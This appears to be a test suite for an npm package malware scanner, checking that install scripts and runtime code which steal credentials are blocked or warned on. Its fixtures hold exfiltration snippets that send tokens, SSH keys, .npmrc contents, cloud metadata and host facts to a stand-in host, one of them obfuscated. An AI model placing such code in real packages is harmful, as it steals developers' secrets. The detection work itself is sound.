import { analyze, findingsOf } from '../__fixtures__/package-builder';

const hook = (files: Record<string, string>, entry = 'i.js') => ({ manifest: { scripts: { preinstall: `node ${entry}` } }, files });

describe('exfiltration rules', () => {
  const variants: [string, string][] = [
    ['secret env var by member', "const t = process.env.GITHUB_TOKEN; require('https').request({ host: 'x.invalid' }).end(t);"],
    ['secret env var by key list', "const keys = ['NPM_TOKEN', 'AWS_SECRET_ACCESS_KEY']; const v = keys.map((k) => process.env[k]); fetch('https://x.invalid', { method: 'POST', body: v.join() });"],
    ['whole environment', "const net = require('net'); const s = net.connect(1, 'x.invalid'); s.write(JSON.stringify(process.env));"],
    ['environment alias', "const e = process.env; const dns = require('dns'); for (const k in e) dns.lookup(k + '.x.invalid', () => {});"],
    ['npmrc file', "const f = require('fs').readFileSync(require('os').homedir() + '/.npmrc'); require('http').get('http://x.invalid/?' + f);"],
    ['ssh key', "const k = fs.readFileSync(path.join(home, '.ssh', 'id_ed25519')); const axios = require('axios'); axios.post(u, k);"],
    ['gh auth token', "const t = require('child_process').execSync('gh auth token').toString(); fetch(u + t);"],
    ['cloud metadata', "fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/').then((r) => r.text()).then((c) => fetch('https://x.invalid', { method: 'POST', body: c }));"],
  ];

  it.each(variants)('blocks install-time credential theft: %s', (_, code) => {
    const report = analyze(hook({ 'i.js': code }));
    expect(findingsOf(report, 'install-script.exfiltration')[0]).toMatchObject({ category: 'malware', severity: 'critical' });
    expect(report.verdict).toBe('block');
    expect(report.malwareRisk).toBeGreaterThanOrEqual(90);
  });

  it('correlates a credential read and network use split across install-time modules (high)', () => {
    const report = analyze(hook({ 'i.js': "const read = require('./read'); require('./send')(read());", 'read.js': 'module.exports = () => process.env.NPM_TOKEN;', 'send.js': "module.exports = (d) => require('https').get('https://x.invalid/' + d);" }));
    expect(findingsOf(report, 'install-script.exfiltration')[0]).toMatchObject({ severity: 'high', evidence: { file: 'package/read.js', line: 1 } });
    expect(report.verdict).toBe('block');
  });

  it('blocks a dependency-confusion beacon (host + user facts sent out), warns on one fact', () => {
    const beacon = analyze(hook({ 'i.js': "const os = require('os'); require('https').get(`https://x.invalid/?h=${os.hostname()}&u=${os.userInfo().username}`);" }));
    expect(findingsOf(beacon, 'install-script.sysinfo-beacon')[0]).toMatchObject({ category: 'malware', severity: 'high' });
    const one = analyze(hook({ 'i.js': "require('https').get('https://x.invalid/?h=' + require('os').hostname());" }));
    expect(findingsOf(one, 'install-script.sysinfo-beacon')[0]).toMatchObject({ category: 'suspicious', severity: 'medium' });
  });

  it('does not flag runtime API clients that read tokens from env', () => {
    const report = analyze({ files: { 'index.js': "const token = process.env.GITHUB_TOKEN; module.exports = () => fetch('https://api.invalid', { headers: { authorization: token } });" } });
    expect(report.findings).toEqual([]);
  });

  it('warns when runtime code sweeps several kinds of credentials, blocks when that code is obfuscated', () => {
    const sweep = analyze({ files: { 'index.js': "const fs = require('fs'); module.exports = () => fetch('https://x.invalid', { method: 'POST', body: [fs.readFileSync(home + '/.aws/credentials'), fs.readFileSync(home + '/.npmrc')].join() });" } });
    expect(findingsOf(sweep, 'runtime.credential-exfiltration')[0]).toMatchObject({ category: 'suspicious', severity: 'high' });
    expect(sweep.verdict).toBe('warn');
    const names = Array.from({ length: 8 }, (_, i) => `_0x${(0xa1b2 + i).toString(16)}`);
    const obfuscated = analyze({ files: { 'index.js': `var ${names.join('=1,')}=1; var _0xf00d=require('fs')['readFileSync'](require('os')['homedir']()+'/.npmrc'); fetch('https://x.invalid',{method:'POST',body:_0xf00d});` } });
    expect(findingsOf(obfuscated, 'runtime.credential-exfiltration')[0]).toMatchObject({ category: 'malware', severity: 'high' });
  });

  it('keeps a runtime client of one service (GitHub token from gh, npm auth from .npmrc) at low', () => {
    for (const code of [
      "const token = require('child_process').execSync('gh auth token').toString(); module.exports = () => fetch('https://api.invalid/repos', { headers: { authorization: token } });",
      "const rc = require('fs').readFileSync(require('path').join(require('os').homedir(), '.npmrc'), 'utf8'); module.exports = (u) => require('https').get(u, { headers: { authorization: auth(rc) } });",
    ]) {
      const report = analyze({ files: { 'index.js': code } });
      expect(findingsOf(report, 'runtime.credential-exfiltration')[0].severity).toBe('low');
      expect(report.verdict).toBe('clean');
    }
  });
});
